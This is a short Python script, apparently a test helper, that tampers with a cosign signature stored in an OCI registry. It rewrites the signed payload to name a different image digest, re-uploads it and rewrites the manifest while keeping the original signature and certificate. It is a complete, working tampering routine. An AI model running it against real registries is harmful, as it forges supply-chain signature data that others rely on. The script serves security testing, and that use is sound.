#!/usr/bin/python3
"""Alters a cosign signature in the registry as an attacker with push access could: the signed
payload replaced by one naming another digest, the signature, certificate and bundle kept.

usage: alter_signature.py REGISTRY_URL REPOSITORY TAG SIGNED_DIGEST OTHER_DIGEST USER:PASSWORD CA_FILE
"""
import base64
import hashlib
import json
import ssl
import sys
import urllib.request

OCI_MANIFEST = "application/vnd.oci.image.manifest.v1+json"


def main():
    registry, repository, tag, signed, other, login, ca = sys.argv[1:8]
    context = ssl.create_default_context(cafile=ca)
    auth = "Basic " + base64.b64encode(login.encode()).decode()

    def call(method, url, body=None, headers=None):
        request = urllib.request.Request(url, data=body, method=method,
                                         headers={"Authorization": auth, **(headers or {})})
        with urllib.request.urlopen(request, context=context) as response:
            return response.headers, response.read()

    _, manifest = call("GET", f"{registry}/v2/{repository}/manifests/{tag}", headers={"Accept": OCI_MANIFEST})
    manifest = json.loads(manifest)
    _, payload = call("GET", f"{registry}/v2/{repository}/blobs/{manifest['layers'][0]['digest']}")
    altered = payload.replace(signed.encode(), other.encode())
    assert altered != payload, "the payload does not name the signed digest"
    digest = "sha256:" + hashlib.sha256(altered).hexdigest()
    headers, _ = call("POST", f"{registry}/v2/{repository}/blobs/uploads/", body=b"")
    location = headers["Location"]
    call("PUT", f"{location}{'&' if '?' in location else '?'}digest={digest}", body=altered,
         headers={"Content-Type": "application/octet-stream"})
    manifest["layers"][0].update(digest=digest, size=len(altered))
    call("PUT", f"{registry}/v2/{repository}/manifests/{tag}", body=json.dumps(manifest).encode(),
         headers={"Content-Type": OCI_MANIFEST})


if __name__ == "__main__":
    main()
